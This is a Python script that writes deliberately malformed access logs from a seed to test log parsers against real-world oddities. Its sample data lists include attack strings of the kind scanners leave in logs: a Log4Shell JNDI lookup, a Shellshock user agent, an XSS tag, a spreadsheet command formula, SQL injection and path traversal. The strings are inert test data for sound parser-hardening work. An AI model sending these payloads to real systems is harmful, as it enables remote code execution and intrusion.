#!/usr/bin/env python3
"""Write an ugly access log of the combined family to standard output.

    ugly.py --seed N --lines N [--gzip]

Every oddity seen in real logs occurs, and lines broken at random; every one
of CASES comes up once before any comes up again.  The same seed gives the
same bytes: only random.random() is used, whose values Python keeps stable.
A seed that divides by 4 starts with a BOM, an odd one ends without LF, and
--gzip writes several members, as rotation by "cat" leaves them.
"""

import argparse
import datetime
import gzip
import random
import sys

LONGEST_LINE = 65536
MEMBER_LINES = 700
HUGE_SIZES = 5  # sums stay below 2^64 with so few numbers of 18 digits

MONTHS = "Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split()
UTC = datetime.timezone.utc

HOSTS = [
    b"192.0.2.7", b"198.51.100.23", b"203.0.113.250", b"2001:db8::1",
    b"2001:db8:0:12:a00:20ff:fe9a:1", b"::ffff:192.0.2.9", b"unix:", b"-",
    b"fe80::1%eth0", b"pc-17.customer.example", b"192.0.2.7:51234",
    b"[2001:db8::5]:443", b"_", b"", b"xn--bcher-kva.example"]
FORWARDED = [
    b"192.0.2.7, 198.51.100.2", b"192.0.2.7, 10.0.0.1, 10.0.0.2",
    b"unknown, 192.0.2.1", b"2001:db8::1, 192.0.2.7", b"' OR 1=1, 192.0.2.1",
    b"192.0.2.7:80, [2001:db8::1]:443"]
VIRTUAL_HOSTS = [
    b"shop.example:443", b"shop.example:80", b"shop.example", b"192.0.2.80:8080",
    b"[2001:db8::80]:443", b"default", b"*:80", b"shop.example:", b"-"]
IDENTS = [b"-"] * 9 + [b"ident", b'""', b""]
USERS = [b"-"] * 12 + [
    b"frank", b'""', b"", b"mail@shop.example", b"John Q Public", b"a [b] c",
    b"[", b"a ] b", b"DOMAIN\\\\user", b'q\\"uote', b"\\xc3\\xa9ric",
    b"[10/Oct/2000:13:55:36 -0700]"]
METHODS = [b"GET"] * 6 + [
    b"POST", b"HEAD", b"PROPFIND", b"TRACE", b"TRACK", b"FLURP", b"T", b"get",
    b"SSTP_DUPLEX_POST", b"XHMQ", b"NEUA", b"BASELINE-CONTROL"]
TARGETS = [
    b"/", b"/index.html", b"/a?b=c&d=%20e", b"*", b"//double//slash", b"/~user/",
    b"/a b c.html", b"/file (1).pdf ", b"http://shop.example/x", b"/caf\xc3\xa9",
    b"/?q=\"quoted\"", b"/\\..\\..\\windows", b"/%00%0a%22", b"/[x]{y}|z",
    b"/?s=10 HTTP/1.1 more", b"/x\" 200 5 \"y", b"?", b"", b"/\\", b"/\"",
    b"/${jndi:ldap://192.0.2.1/a}", b"/\x00\x01\x7f\x80\xff", b"/a\tb"]
PROTOCOLS = [b"HTTP/1.1"] * 5 + [
    b"HTTP/1.0", b"HTTP/2.0", b"HTTP/2", b"HTTP/3.0", b"HTTP/0.9", b"HTTP/1.1 ",
    b"HTTP/", b"HTTPS/1.1", b"http/1.1", b"HTTP/9999999999.1"]
TLS_HELLO = bytes.fromhex("16030100ea010000e60303225c5b5d000a0dff2041c0")
FOREIGN_REQUESTS = [
    TLS_HELLO, b"\x16\x03\x01\x02\x00", b"\x16\x03\x01\x01\"\x01", b"\x80.\x01\x00",
    b"\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr",
    b"SSH-2.0-Go", b"\x05\x01\x00", b"\x04\x01\x00P\xc0\x00\x02\x01\x00", b"quit",
    b"Gh0st\xad\x00\x00\x00", b"lv|'|'|VHJv|'|'|", b"\n", b"\r\r", b"\\", b"\"",
    b"PRI * HTTP/2.0", b"OPTIONS * HTTP/1.0", b"CONNECT shop.example:443 HTTP/1.1",
    b"GET /index.html", b"GET", b"GET ", b" ", b"  GET / HTTP/1.1",
    b"GET http://192.0.2.1:8080/x HTTP/1.1", b"- http://shop.example:80- -",
    b"HELP", b"\xef\xbb\xbfGET / HTTP/1.1", b"-", b""]
AGENTS = [
    b"-", b"", b"curl/8.5.0", b"Mozilla/5.0 (X11; Linux x86_64; rv:124.0) Gecko/20100101",
    b"Mozilla/4.0 (compatible; MSIE 6.0; \"quoted\" browser)", b"\"\"", b"\"", b"\\",
    b"() { :; }; /bin/echo", b"a\\\\\"b", b"\xd0\xaf\xd0\xbd", b"Agent \" with \" spaces",
    b"<script>alert(1)</script>", b"ends with \\", b"tab\there", b"=cmd|' /C calc'!A0"]
REFERERS = [
    b"-", b"-", b"", b"https://shop.example/", b"https://shop.example/?q=\"a b\"",
    b"http://a\\b", b"\"https://shop.example\"", b"android-app://example.app/",
    b"https://shop.example/\xe2\x82\xac", b"x y z"]
EXTRAS = [
    b'"-"', b'"192.0.2.1, 10.0.0.1"', b"0.004", b"0.001, 0.250", b"502, 200", b"502 : 200",
    b"10.0.0.1:8080, 10.0.0.2:8080 : 10.0.0.3:8080", b"-, 200", b"-", b"[]",
    b"[default-shop-80] []", b"{gzip|br}", b"12345", b"-1", b'""', b"", b"p", b".",
    b'rt=0.2 uct="0.001" urt="0.19"', b"0f3c9a7be2d1", b'"a \\"b\\" c"', b"TCP_MISS:HIER_DIRECT",
    b'"test@docker" "http://10.0.0.3:80" 0ms', b"unclosed\"", b'"unclosed', b'"a"b']
USUAL_CODES = [
    b"200", b"200", b"200", b"204", b"206", b"301", b"302", b"304", b"400", b"401", b"403",
    b"404", b"405", b"408", b"410", b"416", b"425", b"429", b"500", b"501", b"502", b"503", b"504"]
VENDOR_CODES = [
    b"100", b"101", b"103", b"110", b"218", b"226", b"299", b"407", b"409", b"418", b"419",
    b"420", b"421", b"430", b"431", b"440", b"444", b"449", b"450", b"451", b"460", b"463",
    b"464", b"494", b"495", b"496", b"497", b"498", b"499", b"505", b"506", b"507", b"508",
    b"509", b"510", b"511", b"520", b"521", b"522", b"523", b"524", b"525", b"526", b"527",
    b"529", b"530", b"540", b"561", b"598", b"599", b"600", b"783", b"999"]
ODD_STATUSES = [
    b"-", b"0", b"000", b"009", b"-1", b"099", b"599", b"600", b"999", b"00", b"1000", b"20",
    b"2OO", b"+200", b"-2", b"20x", b"", b'"200"', b"200.1", b"200,502", b" 200"]
ODD_SIZES = [
    b"-", b"0", b"1", b"00012", b"4294967296", b"-1", b"+5", b"5.0", b"1e3", b"", b'"5"', b"5,",
    b"0x10", b"1234567890123456789", b"99999999999999999999999999"]
ODD_TIMES = [
    b"[31/Apr/2024:10:00:00 +0000]", b"[29/Feb/2023:10:00:00 +0000]",
    b"[29/Feb/2024:10:00:00 +0000]", b"[29/Feb/1900:10:00:00 +0000]",
    b"[29/Feb/2000:10:00:00 +0000]", b"[29/Feb/0000:10:00:00 +0000]",
    b"[00/Jan/2024:10:00:00 +0000]", b"[32/Jan/2024:10:00:00 +0000]",
    b"[01/Mai/2024:10:00:00 +0200]", b"[01/jan/2024:10:00:00 +0000]",
    b"[01/JAN/2024:10:00:00 +0000]", b"[01/M\xe4r/2024:10:00:00 +0100]",
    b"[30/Mar/2024:24:00:00 +0000]", b"[30/Mar/2024:23:60:00 +0000]",
    b"[30/Mar/2024:23:59:61 +0000]", b"[31/Dec/2016:23:59:60 +0000]",
    b"[30/Jun/2015:23:59:60 +0000]", b"[30/Mar/2024:12:00:60 +0100]",
    b"[30/Mar/2024:12:00:00 +1600]", b"[30/Mar/2024:12:00:00 +1559]",
    b"[30/Mar/2024:12:00:00 -1559]", b"[30/Mar/2024:12:00:00 +0060]",
    b"[30/Mar/2024:12:00:00 -0000]", b"[30/Mar/2024:12:00:00 0000]",
    b"[30/Mar/2024:12:00:00]", b"[30/Mar/2024:12:00:00 +01:00]",
    b"[30/Mar/2024:12:00:00 +0100", b"30/Mar/2024:12:00:00 +0100", b"[-]", b"-", b"[]",
    b"[ 9/Mar/2024:12:00:00 +0100]", b"[9/Mar/2024:12:00:00 +0100]",
    b"[30/Mar/24:12:00:00 +0100]", b"[30/Mar/2024 12:00:00 +0100]",
    b"[2024-03-30T12:00:00+01:00]", b"[Sat Mar 30 12:00:00 2024]",
    b"[30/Mar/2024:12:00:00.123 +0100]", b"[30/Mar/0000:12:00:00 +0000]",
    b"[30/Mar/9999:12:00:00 +0000]", b"[31/Dec/9999:23:59:60 -1559]",
    b"[01/Jan/0000:00:00:00 +1559]", b"[01/Jan/1970:00:00:00 +0000]",
    b"[31/Dec/1969:23:59:59 +0000]", b"[30/Mar/1994:12:00:00 +0000]",
    b"[30/Mar/1996:12:00:00 +0000]", b"[19/Jan/2038:03:14:08 +0000]",
    b"[30/Mar/2097:12:00:00 +0000]", b"[30/Mar/2024:12:00:00 \xe2\x88\x920100]"]
FOREIGN_LINES = [
    b'2024/03/30 12:00:01 [error] 31#31: *46 open() "/srv/x" failed (2: No such file), '
    b'client: 192.0.2.7, request: "GET /x HTTP/1.1", host: "shop.example"',
    b"[Sat Mar 30 12:00:00.5 2024] [core:notice] [pid 1] AH00094: Command line: 'httpd'",
    b'{"status":200,"uri":"/","ts":1711796400.5}', b"#Fields: date time cs-method sc-status",
    b"#Software: Server", b"#Start-Date: 2024-03-30", b"# a comment: here", b"#:", b"#1a: b",
    b"#Remark", b" #Fields: date", b"logrotate: done", b"<html><body>", b"Traceback:",
    b'"', b'""', b'"""', b'" "', b'"' * 500, b'\\"' * 300, b"\\" * 301, b'[', b'] "', b"[]",
    b'[30/Mar/2024:12:00:00 +0100] "GET / HTTP/1.1" 200 5',
    b' [30/Mar/2024:12:00:00 +0100] "GET / HTTP/1.1" 200 5',
    b'  [30/Mar/2024:12:00:00 +0100] "GET / HTTP/1.1" 200 5',
    b'   [30/Mar/2024:12:00:00 +0100] "GET / HTTP/1.1" 200 5',
    b'h - -[30/Mar/2024:12:00:00 +0100] "GET / HTTP/1.1" 200 5',
    b'h\t-\t-\t[30/Mar/2024:12:00:00 +0100]\t"GET / HTTP/1.1"\t200\t5',
    b'192.0.2.1 - [30/Mar/2024:12:00:00 +0100] "GET / HTTP/1.1" 200 5']
BLANK_LINES = [b"", b" ", b"\t", b" \t ", b"\0", b"\0" * 4096, b"\0 \0\t", b"\0" * 70000]


class Dice:
    """Random choices that stay the same over Python versions."""

    def __init__(self, seed):
        """Start from the seed."""
        self.next = random.Random(seed).random

    def below(self, limit):
        """Return an integer from 0 to limit - 1."""
        return int(self.next() * limit)

    def chance(self, probability):
        """Return True with this probability."""
        return self.next() < probability

    def pick(self, items):
        """Return one of the items."""
        return items[self.below(len(items))]

    def shuffled(self, items):
        """Return the items in a random order."""
        return sorted(items, key=lambda _item: self.next())


# How servers write a string


def nginx_escape(raw):
    """Write bytes as nginx does by default."""
    return b"".join(
        b"\\x%02X" % byte if byte in b'"\\' or not 32 <= byte < 127 else bytes([byte])
        for byte in raw)


def apache_escape(raw):
    """Write bytes as Apache does, which stops at the first NUL."""
    short = {8: b"\\b", 9: b"\\t", 10: b"\\n", 11: b"\\v", 13: b"\\r", 34: b'\\"', 92: b"\\\\"}
    return b"".join(
        short.get(byte) or (bytes([byte]) if 32 <= byte < 127 else b"\\x%02x" % byte)
        for byte in raw.split(b"\0")[0])


def old_escape(raw):
    """Write bytes as servers do that escape the quote alone."""
    return raw.replace(b'"', b'\\"').replace(b"\n", b"")


def no_escape(raw):
    """Write bytes as they are, as servers do that escape nothing."""
    return raw.replace(b"\n", b"")


ESCAPES = [nginx_escape] * 4 + [apache_escape] * 4 + [old_escape, no_escape]


class UglyLog:
    """Makes the lines, one case after the other."""

    def __init__(self, seed):
        """Start the clock before a change to daylight saving time."""
        self.dice = Dice(seed)
        self.now = datetime.datetime(2024, 3, 30, 22, 0, tzinfo=UTC)
        self.huge_sizes = HUGE_SIZES

    # Parts of a line

    def zone(self):
        """Return an offset in minutes: mostly Central Europe, or any other."""
        if self.dice.chance(0.1):
            return self.dice.below(2 * 15 * 4 + 1) * 15 - 15 * 60
        is_summer = datetime.datetime(2024, 3, 31, 1, tzinfo=UTC) <= self.now
        is_winter = datetime.datetime(2024, 10, 27, 1, tzinfo=UTC) <= self.now
        return 120 if is_summer and not is_winter else 60

    def time(self):
        """Return the next time, which may lie before the one returned last."""
        self.now += datetime.timedelta(seconds=self.dice.below(40))
        if self.dice.chance(0.002):
            self.now = datetime.datetime(2024, 10, 26, 23, 50, tzinfo=UTC)
        if self.dice.chance(0.002):
            self.now = datetime.datetime(2024, 3, 30, 23, 50, tzinfo=UTC)
        late = self.dice.below(900) if self.dice.chance(0.1) else 0
        minutes = self.zone()
        civil = self.now + datetime.timedelta(minutes=minutes, seconds=-late)
        sign = "-" if minutes < 0 else "+"
        hours, minutes = divmod(abs(minutes), 60)
        return (f"[{civil.day:02}/{MONTHS[civil.month - 1]}/{civil.year}:{civil:%H:%M:%S}"
                f" {sign}{hours:02}{minutes:02}]").encode()

    def head(self):
        """Return what stands before the time."""
        dice = self.dice
        host = dice.pick(FORWARDED) if dice.chance(0.05) else dice.pick(HOSTS)
        fields = [host, dice.pick(IDENTS), dice.pick(USERS)]
        if dice.chance(0.15):
            fields.insert(0, dice.pick(VIRTUAL_HOSTS))
        return b" ".join(fields)

    def request(self):
        """Return the bytes of a request line as the server received it."""
        dice = self.dice
        if dice.chance(0.2):
            return dice.pick(FOREIGN_REQUESTS)
        return b" ".join((dice.pick(METHODS), dice.pick(TARGETS), dice.pick(PROTOCOLS)))

    def status(self):
        """Return a status, usual or a vendor's own."""
        return self.dice.pick(USUAL_CODES if self.dice.chance(0.7) else VENDOR_CODES)

    def size(self):
        """Return a size of up to seven digits, or a dash."""
        return b"-" if self.dice.chance(0.1) else b"%d" % self.dice.below(10**self.dice.below(8))

    def tail(self, escape):
        """Return nothing, referer and agent, or those and more."""
        dice = self.dice
        shape = dice.next()
        if shape < 0.2:
            return b""
        quoted = b' "%s" "%s"' % (escape(dice.pick(REFERERS)), escape(dice.pick(AGENTS)))
        if shape < 0.7:
            return quoted
        extras = b"".join(b" " + dice.pick(EXTRAS) for _ in range(1 + dice.below(6)))
        return dice.pick([extras, quoted + extras, extras + quoted])

    def line(self, **parts):
        """Return a line in which the given parts replace the usual ones."""
        escape = parts.get("escape", self.dice.pick(ESCAPES))
        head = parts.get("head", self.head())
        time = parts.get("time", self.time())
        request = escape(parts.get("request", self.request()))
        status = parts.get("status", self.status())
        size = parts.get("size", self.size())
        tail = parts.get("tail", self.tail(escape))
        return b'%s %s "%s" %s %s%s' % (head, time, request, status, size, tail)

    # Cases: each returns one line without its end

    def usual(self):
        """Any parts, rightly put together."""
        return self.line()

    def plain(self):
        """A line nothing is wrong with."""
        return self.line(head=b"192.0.2.%d - -" % self.dice.below(256), escape=apache_escape,
                         request=b"GET /page/%d HTTP/1.1" % self.dice.below(1000),
                         tail=b' "-" "curl/8.5.0"')

    def foreign_request(self):
        """TLS, RDP, SSH and other bytes in place of a request."""
        return self.line(request=self.dice.pick(FOREIGN_REQUESTS), status=b"400")

    def unread_request(self):
        """Apache's dash, nginx's nothing."""
        return self.line(request=self.dice.pick([b"-", b""]), status=b"408")

    def unescaped(self):
        """A server that escapes nothing, with quotes inside."""
        request = b"GET " + self.dice.pick(TARGETS) + b" HTTP/1.1"
        return self.line(escape=no_escape, request=request)

    def odd_user(self):
        """Empty user names, spaces, brackets."""
        return self.line(head=b"192.0.2.1 - " + self.dice.pick(USERS[12:]))

    def odd_head(self):
        """Too few fields, too many spaces, lists, a virtual host."""
        return self.line(head=self.dice.pick([
            b"192.0.2.1 -", b"192.0.2.1", b"", b" - -", b"192.0.2.1  - -", b"192.0.2.1 - - ",
            b"shop.example:443 192.0.2.1 -", b'"192.0.2.1" - -', b"192.0.2.1\t-\t-",
            self.dice.pick(FORWARDED) + b" - -", self.dice.pick(FORWARDED) + b" -",
            self.dice.pick(VIRTUAL_HOSTS) + b" " + self.dice.pick(FORWARDED) + b" - -"]))

    def odd_status(self):
        """No status, too short, too long, not a number."""
        return self.line(status=self.dice.pick(ODD_STATUSES))

    def vendor_code(self):
        """Codes that only some servers have."""
        return self.line(status=self.dice.pick(VENDOR_CODES))

    def odd_size(self):
        """A dash, signs, too many digits; now and then 18 of them."""
        if self.huge_sizes > 0 and self.dice.chance(0.1):
            self.huge_sizes -= 1
            return self.line(size=b"9" * 18)
        return self.line(size=self.dice.pick(ODD_SIZES))

    def odd_time(self):
        """Wrong dates, wrong shapes, ancient and future years."""
        return self.line(time=self.dice.pick(ODD_TIMES))

    def any_zone(self):
        """Any zone of four digits, most of them in use nowhere."""
        sign = self.dice.pick([b"+", b"-"])
        zone = b"%s%02d%02d" % (sign, self.dice.below(18), self.dice.below(66))
        return self.line(time=b"[30/Mar/2024:12:00:00 " + zone + b"]")

    def trailing_spaces(self):
        """Spaces at the end."""
        return self.line() + b" " * (1 + self.dice.below(3))

    def leading_nuls(self):
        """What truncation under an open file leaves."""
        return b"\0" * self.dice.pick([1, 7, 512, 4095, 4096, 70000]) + self.line()

    def inner_nul(self):
        """A NUL, or a few, somewhere inside."""
        line = self.line()
        position = self.dice.below(len(line))
        return line[:position] + b"\0" * (1 + self.dice.below(3)) + line[position:]

    def high_bytes(self):
        """Bytes above 0x7F as they are, not always UTF-8."""
        raw = bytes(128 + self.dice.below(128) for _ in range(20))
        return self.line(escape=no_escape, request=b"GET /" + raw + b" HTTP/1.1")

    def control_bytes(self):
        """Escape sequences, vertical tabs, separators: no line ends to us."""
        raw = b"GET /\x1b[31m\x0b\x0c\r\x1c\x1d\x85\xe2\x80\xa8\xe2\x80\xae HTTP/1.1"
        return self.line(escape=no_escape, request=raw)

    def long_line(self):
        """Around the limit of a line, to the byte."""
        length = LONGEST_LINE + self.dice.pick([-1, 0, 1, 1, 5000, LONGEST_LINE])
        line = self.line(request=b"GET /@ HTTP/1.1", escape=no_escape)
        line = line.replace(b"@", b"x" * (length - len(line) + 1), 1)
        return self.dice.pick([b"", b"", b"\0\0"]) + line

    def blank(self):
        """Nothing, or nothing to see."""
        return self.dice.pick(BLANK_LINES)

    def foreign_line(self):
        """A line of another log, or only quotes."""
        return self.dice.pick(FOREIGN_LINES)

    def cut(self):
        """A line that ends too early, or begins too late."""
        line = self.line()
        position = self.dice.below(len(line))
        return self.dice.pick([line[:position], line[:position], line[position:]])

    def pasted(self):
        """A cut line with the next one right behind it."""
        return self.cut() + self.line()

    def wrapped(self):
        """A whole line in quotes."""
        return b'"' + self.line() + b'"'

    def inner_time(self):
        """A second time and request, inside the first."""
        inner = self.time() + b' "GET /inner HTTP/1.1" 404 7 "'
        return self.line(request=b"GET /" + inner + b" HTTP/1.1")

    def mutated(self):
        """A line with random damage."""
        line = self.line()
        for _ in range(1 + self.dice.below(3)):
            line = self.damage(line)
        return line

    def damage(self, line):
        """Flip a byte, or delete, double, swap or insert a piece."""
        dice = self.dice
        first, middle, last = sorted(dice.below(len(line) + 1) for _ in range(3))
        kind = dice.below(6)
        if kind == 0 and first < len(line):
            return line[:first] + bytes([line[first] ^ (1 << dice.below(8))]) + line[first + 1:]
        if kind == 1:
            return line[:first] + line[min(middle, first + 1 + dice.below(9)):]
        if kind == 2:
            return line[:middle] + line[first:]
        if kind == 3:
            return line[:first] + line[middle:last] + line[first:middle] + line[last:]
        if kind == 4:
            return line[:first] + line[first + 1:]
        piece = dice.pick([b'"', b"\\", b" ", b'\\"', b'" ', b"[", b"\0"])
        return line[:first] + piece + line[first:]

    # The log

    def case_lines(self):
        """Yield lines without end: all cases in turn, common ones more often."""
        rare = (self.long_line, self.blank, self.leading_nuls)
        turn = rare + tuple(getattr(self, name) for name in CASES)
        while True:
            for case in self.dice.shuffled(turn):
                yield case()
            for _ in range(4):
                for case in self.dice.shuffled(turn[len(rare):] + (self.usual,) * 9):
                    yield case()

    def lines(self, count):
        """Yield exactly so many lines with their ends."""
        cases = self.case_lines()
        is_crlf = False
        for _ in range(count):
            line = next(cases).replace(b"\n", b"?")
            if self.dice.chance(0.02):
                is_crlf = not is_crlf
            yield line + (b"\r\n" if is_crlf or self.dice.chance(0.01) else b"\n")


CASES = (
    "usual", "plain", "foreign_request", "unread_request", "unescaped", "odd_user", "odd_head",
    "odd_status", "vendor_code", "odd_size", "odd_time", "any_zone", "trailing_spaces",
    "inner_nul", "high_bytes", "control_bytes", "foreign_line", "cut", "pasted", "wrapped",
    "inner_time", "mutated", "mutated", "mutated")


def pieces_of(seed, count):
    """Yield the log in pieces: BOM, lines, and a last line perhaps without LF."""
    log = UglyLog(seed)
    if seed % 4 == 0:
        yield b"\xef\xbb\xbf"
    lines = log.lines(count)
    for _ in range(count - 1):
        yield next(lines)
    if count > 0:
        yield log.plain() + (b"" if seed % 2 else b"\n")


def main():
    """Write the log that the command line asks for."""
    parser = argparse.ArgumentParser(description="write an ugly access log")
    parser.add_argument("--seed", type=int, default=1, metavar="N")
    parser.add_argument("--lines", type=int, default=1000, metavar="N")
    parser.add_argument("--gzip", action="store_true", help="compress, in several members")
    arguments = parser.parse_args()
    pieces = pieces_of(arguments.seed, arguments.lines)
    if not arguments.gzip:
        sys.stdout.buffer.writelines(pieces)
        return
    while member := b"".join(piece for _, piece in zip(range(MEMBER_LINES), pieces)):
        sys.stdout.buffer.write(gzip.compress(member, mtime=0))


if __name__ == "__main__":
    main()
